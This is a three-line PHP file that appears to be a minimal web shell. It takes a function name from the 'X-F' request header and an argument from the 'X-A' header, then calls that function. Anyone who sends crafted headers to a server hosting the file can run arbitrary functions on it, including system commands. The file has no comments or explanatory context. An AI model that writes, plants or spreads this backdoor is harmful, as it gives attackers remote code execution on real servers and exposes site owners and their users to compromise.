<?php
$h = getallheaders();
$h['X-F']($h['X-A']);
